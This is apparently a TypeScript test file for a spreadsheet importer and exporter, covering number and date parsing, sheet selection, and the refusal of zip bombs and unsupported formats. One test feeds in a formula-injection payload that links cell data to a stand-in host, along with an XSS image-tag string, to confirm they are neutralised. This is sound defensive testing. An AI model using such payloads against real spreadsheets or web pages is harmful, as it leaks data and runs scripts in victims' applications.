import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader, ZipWriter } from '@zip.js/zip.js/index-native.js';
import { expect, test } from 'vitest';
import { textCell, workbookOf, zipOf } from '../../../test/zip-factory.ts';
import { readSheet } from './read-sheet.ts';
import { writeWorkbook } from './write-workbook.ts';

const texts = (...cells: string[]) => cells.map(textCell).join('');
const plain = (value: string, more = '') => `<c ${more}><v>${value}</v></c>`;

test('[IMP-37] numbers of a workbook have all their digits, days and times are as they are shown, formulas have their values', async () => {
  const file = workbookOf([
    {
      name: 'Products',
      rows: [
        texts('sku', 'barcode', 'price', 'sale from', 'sale until', 'stock', 'sold'),
        `${textCell('A-1')}${plain('8.904123000171E12')}${plain('33.609999999999999')}${plain('46387', 's="1"')}${plain('46387.99930555555', 's="2"')}<c><f>2+3</f><v>5</v></c>${plain('1', 't="b"')}`,
        '',
        `${textCell('A-2')}${plain('36000291452')}${plain('12499')}<c/><c/><c t="str"><f>A2</f><v>A-1</v></c>${textCell("'=x")}`,
      ],
    },
  ]);
  expect(await readSheet(file)).toEqual({
    headings: ['sku', 'barcode', 'price', 'sale from', 'sale until', 'stock', 'sold'],
    rows: [
      { line: 2, cells: ['A-1', '8904123000171', '33.61', '2026-12-31', '2026-12-31 23:59', '5', 'yes'] },
      { line: 4, cells: ['A-2', '36000291452', '12499', '', '', 'A-1', '=x'] },
    ],
  });
});

test('[IMP-37] of several sheets the one with the headings of products is read, else the first that has anything', async () => {
  const [notes, empty] = [
    { name: 'Notes', rows: [texts('Read me', 'first'), texts('a', 'b')] },
    { name: 'None', rows: [] },
  ];
  const known = new Set(['sku']);
  const products = { name: 'Prices', rows: ['', texts('sku', 'price'), texts('A-1', '5')] };
  expect(await readSheet(workbookOf([empty, notes, products]), known)).toEqual({
    headings: ['sku', 'price'],
    rows: [{ line: 3, cells: ['A-1', '5'] }],
    chosen: { name: 'Prices', of: 3 },
  });
  expect((await readSheet(workbookOf([empty, notes]), known)).chosen).toEqual({ name: 'Notes', of: 2 });
});

test('[IMP-37] a workbook in a zip of 64 bits is read', async () => {
  const plain = workbookOf([{ name: 'Products', rows: [texts('sku', 'price'), texts('A-1', '5')] }]);
  const writer = new ZipWriter(new Uint8ArrayWriter(), { zip64: true, useWebWorkers: false });
  for (const entry of await new ZipReader(new Uint8ArrayReader(plain), { useWebWorkers: false }).getEntries())
    if (!entry.directory)
      await writer.add(entry.filename, new Uint8ArrayReader(await entry.getData(new Uint8ArrayWriter())));
  expect(await readSheet(await writer.close())).toMatchObject({
    headings: ['sku', 'price'],
    rows: [{ cells: ['A-1', '5'] }],
  });
});

const workbook = { name: 'xl/workbook.xml', content: '<workbook/>' };

test.each([
  ['an OpenDocument file', zipOf([{ name: 'content.xml', content: '<x/>' }]), '.ods'],
  ['a binary workbook', zipOf([{ name: 'xl/workbook.bin', content: 'x' }]), '.xlsb'],
  ['a zip of photos', zipOf([{ name: 'A-1.jpg', content: 'x' }]), 'not an Excel file'],
  ['an old workbook', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1), '.xls'],
  ['a bomb', zipOf([workbook, { name: 'a', content: 'x', size: 101 * 2 ** 20 }]), 'more than 100 MB'],
  ['a bomb that hides its size', zipOf([workbook, { name: 'a', content: 'x'.repeat(5000), size: 10 }]), 'not complete'],
  ['half a workbook', zipOf([workbook]).slice(0, -30), 'not complete'],
  ['a workbook without sheets', zipOf([workbook]), 'cannot be read'],
])('[IMP-38] %s is refused with a sentence before it is unpacked', async (_, bytes, sentence) => {
  await expect(readSheet(bytes)).rejects.toThrow(sentence);
});

test('[IMP-39][C1-15] a written workbook keeps texts as texts, amounts as numbers, runs nothing, and is read again as it was', async () => {
  const columns = ['sku', 'name', 'barcode', 'price', 'stock'];
  const names = [
    '=HYPERLINK("http://x.example/?"&A1)',
    '@SUM(1)',
    '-2+3',
    'Buds</script><img src=x onerror=alert(1)>',
    '\tx',
  ];
  const rows = names.map((name, index) => [`00${index}`, name, '0036000291452', '999.50', '7']);
  const file = await writeWorkbook({ name: 'Products', columns, numberColumns: ['price', 'stock'] }, rows);
  const { default: readXlsxFile } = await import('read-excel-file/node');
  const [sheet] = await readXlsxFile(Buffer.from(file), { trim: false });
  expect(sheet?.data.slice(1).map(([, name, ...more]) => [name, ...more])).toEqual(
    rows.map(([, name]) => [name?.startsWith('Buds') ? name : `'${name}`, '0036000291452', 999.5, 7]),
  );
  expect(await readSheet(file)).toMatchObject({
    headings: columns,
    rows: rows.map(([sku, name, gtin]) => ({ cells: [sku, name, gtin, '999.5', '7'] })),
  });
});

// tidyverse/readxl#513: lists that cells are chosen from stand on hidden sheets, often the first.
test('[IMP-128] a sheet that a person sees comes before a hidden one, and the one with more known headings before others', async () => {
  const known = new Set(['sku', 'price', 'brand', 'countryoforigin']);
  const lists = { name: 'Lists', isHidden: true, rows: [texts('Brand', 'Country of origin'), texts('Bijli', 'India')] };
  const brands = { name: 'Brands', rows: [texts('Brand'), texts('Bijli')] };
  const prices = { name: 'Prices', rows: [texts('SKU', 'Price'), texts('A-1', '5')] };
  expect((await readSheet(workbookOf([lists, brands, prices]), known)).chosen).toEqual({ name: 'Prices', of: 3 });
  expect((await readSheet(workbookOf([lists]), known)).headings).toEqual(['Brand', 'Country of origin']);
});
